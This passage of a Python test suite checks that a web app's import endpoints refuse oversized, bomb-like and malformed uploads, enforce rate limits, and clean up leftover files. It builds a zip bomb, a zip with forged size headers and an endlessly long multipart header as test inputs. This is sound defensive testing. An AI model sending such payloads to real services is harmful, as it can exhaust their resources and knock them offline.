        archive.writestr("crawl/posts.csv", POSTS)
        archive.writestr("crawl/zeros.csv", b"0" * size)  # ~1000:1
    return buffer.getvalue()


def _lying_zip() -> bytes:
    """A zip whose headers say its entry unpacks to 1,000 bytes; it holds 3 MB."""
    import struct

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("liar.csv", POSTS.encode() + b"1," * (1536 * 1024))
    data = bytearray(buffer.getvalue())
    real = len(POSTS.encode()) + 3 * 1024 * 1024
    for at, offset in ((0, 22), (data.rfind(b"PK\x01\x02"), 24)):  # the local and the central header
        assert struct.unpack_from("<I", data, at + offset)[0] == real
        struct.pack_into("<I", data, at + offset, 1000)
    return bytes(data)


def test_zip_bombs_and_lying_zips_are_refused_and_leave_nothing(client, db, monkeypatch):
    from govmedia.ingest import upload

    editor = basic("editor1")
    uploads = db.parent / "uploads"
    bomb = _bomb()
    assert len(bomb) < 200 * 1024
    answer = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                         files={"file": ("bomb.zip", bomb, "application/zip")})
    assert answer.status_code == 400, answer.text
    assert_said(answer.json()["detail"], "bomb.zip", "zeros.csv", "压缩炸弹", "100:1")
    assert not uploads.exists() or not any(uploads.iterdir())

    liar = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                       files={"file": ("liar.zip", _lying_zip(), "application/zip")})
    assert liar.status_code == 400, liar.text
    assert_said(liar.json()["detail"], "liar.zip")
    assert not uploads.exists() or not any(uploads.iterdir())  # the partly unpacked entry is gone

    # Declared sizes over the total; and counted while writing, should the declared sizes pass.
    monkeypatch.setattr(upload, "UNPACKED_FACTOR", 1)
    monkeypatch.setenv("GOVMEDIA_MAX_UPLOAD_MB", "1")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(3):
            archive.writestr(f"part{n}.csv", POSTS.encode() + bytes(range(256)) * 2000)  # 0.5 MB each, 2.3:1
    for unchecked in (False, True):
        if unchecked:
            monkeypatch.setattr(upload, "_check_entries", lambda *args: None)
        too_much = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                               files={"file": ("parts.zip", buffer.getvalue(), "application/zip")})
        assert too_much.status_code == 400, too_much.text
        assert_said(too_much.json()["detail"], "parts.zip", "解压后超过 1 MB 上限", "拆分后分批上传")
        assert not uploads.exists() or not any(uploads.iterdir())
    monkeypatch.undo()

    monkeypatch.setattr(upload, "MAX_ZIP_MEMBERS", 2)
    many = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                       files={"file": ("many.zip", buffer.getvalue(), "application/zip")})
    assert many.status_code == 400 and "超过 2 个上限" in many.json()["detail"]


def test_an_import_keeps_only_its_rejects_files_which_stay_downloadable(client, db):
    from test_web_jobs import NEW_A, crawler_zip, finished

    editor = basic("editor1")
    uploads = db.parent / "uploads"
    done = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                       files={"file": ("new_a.csv", NEW_A.encode(), "text/csv")}).json()
    folder = uploads / done["upload_id"]
    assert sorted(p.name for p in folder.rglob("*")) == ["new_a.csv.rejects.csv"]
    got = client.get(done["files"][0]["rejects_url"], headers=editor)
    assert got.status_code == 200 and "不是时间" in got.content.decode("utf-8-sig")

    started = client.post("/api/v1/imports", headers=editor,
                          files={"file": ("crawl.zip", crawler_zip(), "application/zip")})
    job = finished(client, started.json()["job_id"], headers=editor)
    assert job["state"] == "done"
    folder = uploads / job["params"]["upload_id"]
    left = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    urls = [f["rejects_url"] for f in job["result"]["files"] if f["rejects_url"]]
    assert left == sorted(u.split("/rejects/", 1)[1] for u in urls) and len(left) == 2
    assert all(name.endswith(".rejects.csv") for name in left)
    for url in urls:
        assert client.get(url, headers=editor).status_code == 200

    # A job that fails leaves nothing behind.
    failed = client.post("/api/v1/imports", params={"wait": "true"}, headers=editor,
                         files={"file": ("empty.zip", _empty_zip(), "application/zip")})
    assert failed.status_code == 400
    assert sorted(p.name for p in uploads.iterdir()) == sorted([done["upload_id"], job["params"]["upload_id"]])

    # The registry upload keeps its rejects file only.
    registry = "平台,账号ID,名称,类别\n微博,N1,丁区发布,区级\n推特,Q,外站,区级\n"
    sent = client.post("/api/v1/accounts/import", headers=editor,
                       files={"file": ("名录.csv", registry.encode(), "text/csv")})
    assert sent.status_code == 200 and sent.json()["rejected"] == 1
    upload_id = sent.json()["rejects_url"].split("/")[4]
    assert [p.name for p in (uploads / upload_id).iterdir()] == ["名录.csv.rejects.csv"]
    assert client.get(sent.json()["rejects_url"], headers=editor).status_code == 200
    clean = client.post("/api/v1/accounts/import", headers=editor,
                        files={"file": ("ok.csv", "平台,账号ID,名称,类别\n微博,N2,戊区发布,区级\n".encode(), "text/csv")})
    assert clean.status_code == 200 and clean.json()["rejects_url"] is None
    assert len(list(uploads.iterdir())) == 3  # nothing kept of a registry without rejected rows


def _empty_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt.bak", "nothing to import")
    return buffer.getvalue()


def _city_token(client) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/city").text).group(1)


CITY_TABLE = "城市,传播力,服务力,互动力\n南京,80,70,60\n苏州,70,60,50\n"


def test_the_city_form_is_bounded_in_size_and_rate(client, monkeypatch):
    from govmedia.web.auth import RateLimiter

    monkeypatch.setenv("GOVMEDIA_MAX_CITY_MB", "0.5")
    token = _city_token(client)
    over_file = client.post("/city", data={"csrf_token": token},
                            files={"file": ("城市.csv", (CITY_TABLE + "x" * 700 * 1024).encode(), "text/csv")})
    assert over_file.status_code == 413
    assert_said(page_message(over_file.text), "城市.csv", "0.5 MB 上限")
    over_body = client.post("/city", data={"csrf_token": token},
                            files={"file": ("城市.csv", (CITY_TABLE + "x" * 3 * 1024 * 1024).encode(), "text/csv")})
    assert over_body.status_code == 413
    assert_said(page_message(over_body.text), "0.5 MB 上限")
    fine = client.post("/city", data={"csrf_token": token}, files={"file": ("城市.csv", CITY_TABLE.encode(), "text/csv")})
    assert fine.status_code == 200 and "南京" in fine.text

    client.app.state.city_limiter = RateLimiter(2, 60)
    for _ in range(2):
        assert client.post("/city", data={"csrf_token": token},
                           files={"file": ("城市.csv", CITY_TABLE.encode(), "text/csv")}).status_code == 200
    limited = client.post("/city", data={"csrf_token": token},
                          files={"file": ("城市.csv", CITY_TABLE.encode(), "text/csv")})
    assert limited.status_code == 429 and 0 < int(limited.headers["retry-after"]) <= 61
    assert_said(page_message(limited.text), "过于频繁", "秒后再试")
    assert client.get("/city").status_code == 200  # the form itself is still shown


def test_a_broken_upload_form_is_refused_in_chinese(client):
    broken = _multipart_start().split(b"text/csv")[0] + b"y" * 100_000  # a header line that never ends
    headers = {**basic("editor1"), "content-type": "multipart/form-data; boundary=BOUNDARY"}
    api = client.post("/api/v1/imports", content=broken, headers=headers)
    assert api.status_code == 400
    assert_said(api.json()["detail"], "请求内容无法解析", "重新选择文件")
    page = client.post("/city", content=broken, headers={"content-type": "multipart/form-data; boundary=BOUNDARY"})
    assert page.status_code == 400
    assert_said(page_message(page.text), "请求内容无法解析")
